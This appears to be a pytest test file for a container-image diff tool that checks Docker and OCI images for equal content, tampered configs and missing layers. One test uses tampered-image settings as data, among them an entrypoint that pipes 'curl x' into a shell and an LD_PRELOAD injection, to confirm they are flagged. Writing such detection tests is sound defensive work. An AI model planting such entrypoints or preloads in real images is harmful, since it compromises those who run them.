"""Proves that equal content is seen through every form and packing, and that nothing else is taken for it."""

import json
from typing import Any

import msgspec
import pytest
from images import Image, Tree, docker_v1, docker_v12, docker_v25, hex_of, image, oci_index_layout, oci_layout, pack
from images import sha256 as digest_of
from views import examine

from tidewaiter.image.diff import AmbiguousImageError, ImageDiff, KeyChange, diff
from tidewaiter.image.diff_files import FileChange

WEB = image()
ARM64 = image({"bin/sh": b"#!arm"}, platform={"architecture": "arm64", "os": "linux"})
RUN = {"Env": ["PATH=/bin"], "Cmd": ["/app/web"]}
FORMS = {
    "docker_v1": docker_v1(WEB),
    "docker_v12": docker_v12(WEB),
    "docker_v25": docker_v25(WEB),
    "oci": oci_layout(WEB),
    "zstd": oci_layout(WEB, "zstd"),
    "plain": oci_layout(WEB, "none"),
    "schema2": oci_layout(WEB, style="docker"),
    "platforms": oci_index_layout(WEB, ARM64),
}


def compare(a: Tree, b: Tree) -> ImageDiff:
    """The difference of two trees."""
    return diff(examine(a, "a.tar"), examine(b, "b.tar"))


@pytest.mark.parametrize("a", FORMS)
@pytest.mark.parametrize("b", FORMS)
def test_one_image_is_the_same_content_in_every_form(a: str, b: str) -> None:
    """Eight forms, every pair of them."""
    found = compare(FORMS[a], FORMS[b])
    assert found.same_content is True
    assert [change.reasons for change in found.platforms] == [()] * len(found.platforms)
    assert all(layer.change == "same" for change in found.platforms for layer in change.layers)


def test_platforms_of_one_index_are_not_taken_for_each_other() -> None:
    """Only platforms that both have are compared; where there is none, nothing is the same."""
    found = compare(oci_layout(WEB), oci_layout(ARM64))
    assert found.same_content is False
    assert (found.only_in_a, found.only_in_b, found.platforms) == (("linux/amd64",), ("linux/arm64",), ())


@pytest.mark.parametrize(
    ("run", "keys"),
    [
        ({**RUN, "Entrypoint": ["/bin/sh", "-c", "curl x|sh"]}, ["config.Entrypoint"]),
        ({**RUN, "Cmd": ["/bin/sh"]}, ["config.Cmd"]),
        ({**RUN, "Env": ["PATH=/bin", "LD_PRELOAD=/x.so"]}, ["config.Env"]),
        ({**RUN, "User": "33"}, ["config.User"]),
        ({**RUN, "Healthcheck": {"Test": ["CMD-SHELL", "curl x"]}}, ["config.Healthcheck"]),
        ({**RUN, "WorkingDir": "/tmp", "Volumes": {"/v": {}}}, ["config.WorkingDir", "config.Volumes"]),  # noqa: S108
    ],
)
def test_equal_layers_that_run_otherwise_are_another_image(run: dict[str, Any], keys: list[str]) -> None:
    """Somebody who adds an entrypoint to a trusted image's layers has its chain ID, and not its content."""
    found = compare(oci_layout(WEB), oci_layout(image(run=run)))
    (change,) = found.platforms
    assert found.same_content is False
    assert change.a.chain_id == change.b.chain_id
    assert [key.key for key in change.config if key.changes_run] == keys
    assert change.files == ()


def test_empty_absent_and_null_settings_run_alike() -> None:
    """Converters between Docker and OCI write one for the other."""
    run: dict[str, Any] = {**RUN, "Entrypoint": None, "User": "", "Volumes": {}, "Labels": None}
    assert compare(oci_layout(WEB), docker_v12(image(run=run))).same_content is True


def test_labels_and_history_change_the_config_and_not_the_content() -> None:
    """What changes nothing that runs is told, and is no difference of content."""
    made = image(run={**RUN, "Labels": {"a": "b"}}, author="somebody")
    found = compare(oci_layout(WEB), oci_layout(made))
    assert found.same_content is True
    assert found.platforms[0].config == (
        KeyChange(key="config.Labels", changes_run=False, a=None, b={"a": "b"}),
        KeyChange(key="author", changes_run=False, a=None, b="somebody"),
    )


def test_changed_files_are_told_with_the_layers_that_wrote_them() -> None:
    """Added, removed, changed; what one and the same layer wrote is not looked at."""
    low: Tree = {"bin/sh": b"#!shell", "etc/a": b"1", "etc/b": b"22", "etc/same": b"1"}
    a = image(low, {"app/web": b"#!web"})
    b = image(low, {"app/web": b"#!other", "etc/a": b"2", "etc/.wh.b": b"", "app/x": b""})
    (change,) = compare(oci_layout(a), oci_layout(b)).platforms
    assert change.files == (
        FileChange(path="app/web", change="changed", what=("size",), layer_index_a=1, layer_index_b=1),
        FileChange(path="app/x", change="added", layer_index_b=1),
        FileChange(path="etc/a", change="changed", what=("rewritten",), layer_index_a=0, layer_index_b=1),
        FileChange(path="etc/b", change="removed", layer_index_a=0),
    )
    assert [(layer.change, layer.diff_id) for layer in change.layers] == [
        ("same", a.diff_ids[0]),
        ("removed", a.diff_ids[1]),
        ("added", b.diff_ids[1]),
    ]


def without_layer(tree: Tree, place: int) -> Tree:
    """The layout without the bytes of one layer."""
    gone = hex_of(digest_of(pack(WEB.layers[place], "gzip")))
    return {name: content for name, content in tree.items() if gone not in name}


def test_claims_alone_make_nothing_the_same() -> None:
    """A layer that is not there may be anything: equal diff_ids in the config are only told."""
    found = compare(oci_layout(WEB), without_layer(oci_layout(WEB), 1))
    assert found.same_content is None
    assert found.platforms[0].reasons == ("1 of 2 layers of B could not be measured",)


def test_a_lying_config_is_found_out() -> None:
    """Layers are compared as measured, whatever the config lists."""
    other = image({"bin/sh": b"#!evil"}, {"app/web": b"#!web"})
    liar = Image(other.layers, WEB.config, WEB.names, WEB.platform)
    found = compare(oci_layout(WEB), oci_layout(liar))
    assert found.same_content is False
    assert (found.a.verdict, found.b.verdict) == ("proven", "broken")


def test_a_broken_image_equals_nothing() -> None:
    """Where something is disproven, another reader may see another image."""
    tree = dict(oci_layout(WEB))
    table = json.loads(tree["index.json"] or "")
    table["manifests"][0]["size"] += 1
    found = compare(oci_layout(WEB), {**tree, "index.json": json.dumps(table).encode()})
    assert found.same_content is None
    assert found.platforms[0].reasons == ("B is broken",)


def test_several_images_of_one_platform_must_be_chosen_from() -> None:
    """Which of two images is meant cannot be guessed; one image under two names is one."""
    other = image({"x": b"1"}, names=["registry.example/other:1"])
    with pytest.raises(AmbiguousImageError, match="several images of linux/amd64"):
        compare(docker_v12(WEB, other), oci_layout(WEB))
    assert compare(docker_v12(WEB, WEB), oci_layout(WEB)).same_content is True


def test_the_shape_is_that_of_the_contract() -> None:
    """Kind, schema, answer; both sides with form and verdict."""
    told = json.loads(msgspec.json.encode(compare(docker_v12(WEB), oci_layout(WEB))))
    assert {key: told[key] for key in ("kind", "schema", "same_content", "a", "b")} == {
        "kind": "image_diff",
        "schema": 1,
        "same_content": True,
        "a": {"name": "a.tar", "form": "docker_archive", "verdict": "proven"},
        "b": {"name": "b.tar", "form": "oci_archive", "verdict": "proven"},
    }
